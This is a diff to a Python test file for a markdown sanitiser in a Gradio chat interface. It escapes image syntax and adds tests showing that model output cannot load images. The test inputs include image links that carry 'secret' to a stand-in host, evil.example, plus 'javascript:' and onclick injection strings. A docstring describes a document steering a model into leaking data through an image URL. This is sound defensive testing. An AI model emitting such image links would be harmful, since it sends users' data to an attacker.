@@ -75,7 +75,7 @@ def test_what_is_shown_and_what_is_not():
     assert safe_markdown('<a href="https://ok.example/a b" onclick=1>ok</a>') == '<a href="https://ok.example/a%20b">ok</a>'
     assert safe_markdown('<a href="javascript:alert(1)">x</a>') == "<a>x</a>"
     assert safe_markdown("[x](javascript:alert(1))") == "[x]&#40;javascript:alert(1))"
-    assert safe_markdown("![x](data:image/png;base64,AA)") == "![x]&#40;data:image/png;base64,AA)"
+    assert safe_markdown("![x](data:image/png;base64,AA)") == "!&#91;x]&#40;data:image/png;base64,AA)"
     assert safe_markdown("partial reply <div style=") == "partial reply &lt;div style="  # a tag cut by streaming
     assert safe_markdown("```mermaid\nA-->B\n```") == "``` mermaid\nA-->B\n```"
     assert safe_markdown("<https://example.com/a_b>") == "[https://example.com/a\\_b](https://example.com/a_b)"
@@ -98,7 +98,7 @@ def test_safe_url(url, ok):
 
 # --- what Gradio's renderer makes of it ------------------------------------------------------------------
 
-MARKED_GENERATED = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "img", "code", "pre", "em", "strong", "del",
+MARKED_GENERATED = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "code", "pre", "em", "strong", "del",
                     "blockquote", "ul", "ol", "li", "input", "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "div"}
 ATTRS = {"a": {"href", "title", "target", "rel"}, "img": {"src", "alt", "title"}, "ol": {"start"},
          "input": {"type", "checked", "disabled"}, "th": {"align"}, "td": {"align"}, "code": {"class"}, "div": {"class"}}
@@ -214,3 +214,12 @@ def test_random_markdown_and_html_mixes_render_inert(gradio_markdown, seed):
     assert [d for d, o in zip(docs, outs) if safe_markdown(o) != o] == []
     bad = [(d, o, _audit(h)) for d, o, h in zip(docs, outs, gradio_markdown(outs)) if _audit(h)]
     assert bad == [], bad[:3]
+
+
+@pytest.mark.parametrize("text", ["![x](https://evil.example/?q=secret)", "![x][r]\n\n[r]: https://evil.example/a.png",
+                                  "![x]\n\n[x]: https://evil.example/p.png", "[![x](https://e/x.png)](https://e)",
+                                  "![x](<https://e/x.png>)", "text ![a](http://e/1.png) more"])
+def test_no_image_from_model_output_ever_loads(text):
+    """A model steered by a document can put data into an image URL; the browser would fetch it."""
+    out = safe_markdown(text)
+    assert "![" not in out.replace("!&#91;", "") and safe_markdown(out) == out
